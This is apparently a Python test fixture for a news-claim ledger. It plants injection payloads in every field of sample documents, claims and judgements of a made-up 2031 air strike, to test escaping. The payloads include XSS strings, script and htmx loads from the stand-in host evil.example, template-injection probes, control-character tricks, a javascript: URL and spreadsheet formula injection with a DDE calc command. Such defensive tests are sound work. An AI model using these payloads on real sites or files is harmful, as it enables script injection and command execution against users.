"""A ledger with a payload in every field that a stranger, a reviewer or a browser can fill."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from tests.ledger.made import READER, claim, document, judgement, raw_of
from tollbook.ledger import Cluster, Ledger
from tollbook.records import (
    Attribution,
    Blamed,
    Document,
    Event,
    Place,
    Span,
    Statement,
    Victims,
    When,
    statement_id,
)

# Each tries another way out of where it stands: an element, an attribute, a script, a title, an address, a template.
# Whatever gets through leaves an element "pwn9", sets window.pwn9, or asks another host for something.
PAYLOADS = {
    "element": '<img src=x onerror="window.pwn9=1"><b id=pwn9>',
    "attribute": "\"'><svg/onload=window.pwn9=1><b id=pwn9>",
    "script": "</script><script>window.pwn9=1</script><b id=pwn9>",
    "rest": "--></title></style></textarea></noscript><b id=pwn9><script src=//evil.example/x.js></script>",
    "boost": "<b id=pwn9 hx-get=//evil.example/ hx-trigger=load>",
    "entity": "&lt;b id=pwn9&gt;&#60;script&#62;window.pwn9=1&#60;/script&#62;",
    "template": "{{7*7191}}{% for x in y %}${7*7191}#{7*7191}<%= 7*7191 %>",
    "turned": "\u202e<b id=pwn9>\u2066\x1b[31m\x07\x00\ufeff",
}
ALL = " ".join(PAYLOADS.values())
ADDRESS = "javascript:window.pwn9=1//"
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0")


def fill(ledger: Ledger, put: str = ALL, url: str = ADDRESS) -> dict[str, str]:
    """Puts two documents of one incident in, with ``put`` in every field, and judgements; returns names → ids."""
    ids: dict[str, str] = {}
    claims = []
    for number, outlet in (("12", "one"), ("31", "two")):
        text = f"{put} An air strike killed {number} people on 3 May 2031. {put}\n\n{put}"
        doc = document(
            text, outlet=f"{put} {outlet}", title=f"{put} {outlet}", key=f"{put}{outlet}.html", url=url,
            archive_url=url, language="en",
        )  # fmt: skip
        made = claim(
            doc, number,
            victims=Victims(put, 0, len(put), "civilian", "stated", (), put),
            event=Event("airstrike", put, 0, len(put)),
            date=When(put, 0, len(put), dt.date(2031, 5, 3), dt.date(2031, 5, 3), "day", "text"),
            said=When(put, 0, len(put), dt.date(2031, 5, 3), dt.date(2031, 5, 3), "day", "text"),
            place=Place(put, 0, len(put), put, "SY", put, 35.0, 39.0, "town", None),
            blamed=(Blamed(put, 0, len(put), put, "accused", put),),
            attribution=(Attribution(put, 0, len(put), put, put, put, "media", put, "direct"),),
        )  # fmt: skip
        ledger.add_document(doc, [made], raw_of(doc), statements=[_statement(doc, put)])
        ids[f"document {outlet}"], ids[f"claim {outlet}"] = doc.source.id, made.id
        claims.append(made)
    one, two = (made.id for made in claims)
    summary = {
        "killed": {"low": 12, "high": 31}, "injured": None, "outlets": 2, "origins": {"low": 1, "high": 2},
        "date": {"from": "2031-05-03", "to": "2031-05-03", "precision": "day"},
        "place": {"name": put, "country": "SY", "lat": 35.0, "lon": 39.0, "precision": "town"},
        "contradictions": [{"field": put, "claims": [one, two]}],
    }  # fmt: skip
    ledger.put_clusters([Cluster("i-00000000000000aa", (one, two), summary)], put)
    ids |= {"incident": "i-00000000000000aa", "claim": one, "document": ids["document one"]}
    ledger.judge(judgement("unsure", two, by=put[:200], note=put))
    place = {"name": put[:300], "country": "SY", "admin1": None, "lat": None, "lon": None, "precision": None,
             "gazetteer_id": None}  # fmt: skip
    ledger.judge(judgement("correct", one, by=put[:200], minute=1, note=put, field="place", value=place))
    ledger.judge(judgement("confirm", ids["incident"], by=put[:200], minute=2, note=put))
    return ids


def _statement(doc: Document, put: str) -> Statement:
    words = Span(put, 0, len(put))
    day = When(put, 0, len(put), dt.date(2031, 5, 3), dt.date(2031, 5, 3), "day", "text")
    return Statement(
        id=statement_id(doc.source.id, "denial", ((0, len(put)),), 0), document=doc.source, kind="denial", quote=words,
        attribution=(Attribution(put, 0, len(put), put, put, put, "media", put, "direct"),), cue=words, said=day,
        event=Event("airstrike", put, 0, len(put)), date=day, place=None, target=words, reason=words, score=0.9,
        made_by=READER,
    )  # fmt: skip


def write(folder: Path, put: str = ALL, url: str = ADDRESS) -> tuple[Path, dict[str, str]]:
    """The ledger in a file."""
    path = folder / "planted.db"
    with Ledger.open(path, create=True) as ledger:
        return path, fill(ledger, put, url)
